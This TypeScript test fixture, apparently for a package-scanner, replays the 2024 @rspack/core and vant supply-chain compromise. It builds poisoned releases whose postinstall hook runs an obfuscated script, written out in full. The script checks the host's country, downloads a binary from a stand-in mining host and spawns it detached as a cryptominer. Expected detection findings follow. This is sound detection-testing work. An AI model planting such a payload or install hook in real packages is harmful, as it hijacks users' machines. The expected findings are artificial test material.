import { obfuscated } from '../obfuscated.js'
import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { type Release, upgradeOf } from '../scene.js'
import { onVersion } from '../upgrade.js'

/** Asks where it is, fetches a program, and leaves it running. */
const support = obfuscated(
  'const $https=require(«https»),$fs=require(«fs»),$os=require(«os»),$path=require(«path»),$child=require(«child_process»);' +
    'const $target=$path[«join»]($os[«tmpdir»](),«vant_helper»);' +
    '$https[«get»](«https://geo.mining.example/json»,$where=>{$where[«on»](«data»,$text=>{' +
    'if(JSON[«parse»]($text)[«country»]===«CN»)return;' +
    '$https[«get»](«https://files.mining.example/xmr/helper»,$answer=>{const $file=$fs[«createWriteStream»]($target,{mode:0x1ed});' +
    '$answer[«pipe»]($file);$file[«on»](«finish»,()=>{$fs[«chmodSync»]($target,0x1ed);' +
    '$child[«spawn»]($target,[«-u»,«inert»,«--cpu-max-threads-hint»,«75»],{detached:!![],stdio:«ignore»})[«unref»]();});});});});',
  60,
)

const bad = ({ files, manifest }: Release, version: string, path: string): Release => ({
  version,
  manifest: { ...manifest, scripts: { postinstall: `node ./${path}` } },
  files: { ...files, [path]: support },
})

const rspack: Release = {
  version: '1.1.6',
  published: '2024-12-12T12:00:00Z',
  manifest: { main: 'dist/index.js' },
  files: { 'dist/index.js': compiledQueue },
}
const vant: Release = {
  version: '4.9.13',
  published: '2024-12-14T12:00:00Z',
  manifest: { main: 'lib/vant.cjs.js' },
  files: { 'lib/vant.cjs.js': compiledQueue },
}

const inSupport = { file: 'dist/util/support.js', line: /_0x/ } as const
const alsoInSupport = { file: 'lib/utils/support.js', line: /_0x/ } as const

const { packages, base, head } = upgradeOf({
  '@rspack/core': {
    before: rspack,
    after: { ...bad(rspack, '1.1.7', 'dist/util/support.js'), published: '2024-12-19T02:00:00Z' },
  },
  vant: { before: vant, after: { ...bad(vant, '4.9.14', 'lib/utils/support.js'), published: '2024-12-19T04:00:00Z' } },
})

export const replay: Replay = {
  description:
    'With one stolen token each, a bundler and a library of components were released with the same miner, which started after ' +
    'installation; of the latter, many old lines within minutes.',
  date: '2024-12-20',
  reviewedAt: '2024-12-20T08:00:00Z',
  packages: {
    ...packages,
    vant: {
      ...packages.vant,
      '2.13.3': { published: '2024-12-19T04:06:00Z' },
      '3.6.13': { published: '2024-12-19T04:12:00Z' },
    },
  },
  base,
  head,
  expected: {
    verdict: 'flagged',
    findings: [
      onVersion('@rspack/core', '1.1.7', ['combined-risk', 'critical']),
      onVersion('@rspack/core', '1.1.7', ['install-script-dangerous', 'critical', inSupport]),
      onVersion('@rspack/core', '1.1.7', ['remote-code-run', 'critical', inSupport]),
      onVersion('@rspack/core', '1.1.7', ['capability-added', 'high', inSupport]),
      onVersion('@rspack/core', '1.1.7', ['code-obfuscated', 'high', { file: 'dist/util/support.js' }]),
      onVersion('@rspack/core', '1.1.7', ['install-script-added', 'high', { file: 'package.json' }]),
      onVersion('@rspack/core', '1.1.7', ['network-host-added', 'medium', inSupport]),
      onVersion('@rspack/core', '1.1.7', ['release-fresh', 'medium']),
      onVersion('vant', '4.9.14', ['release-burst', 'high']),
      onVersion('vant', '4.9.14', ['release-fresh', 'medium']),
      onVersion('vant', '4.9.14', ['combined-risk', 'critical']),
      onVersion('vant', '4.9.14', ['install-script-dangerous', 'critical', alsoInSupport]),
      onVersion('vant', '4.9.14', ['remote-code-run', 'critical', alsoInSupport]),
      onVersion('vant', '4.9.14', ['capability-added', 'high', alsoInSupport]),
      onVersion('vant', '4.9.14', ['code-obfuscated', 'high', { file: 'lib/utils/support.js' }]),
      onVersion('vant', '4.9.14', ['install-script-added', 'high', { file: 'package.json' }]),
      onVersion('vant', '4.9.14', ['network-host-added', 'medium', alsoInSupport]),
    ],
  },
}
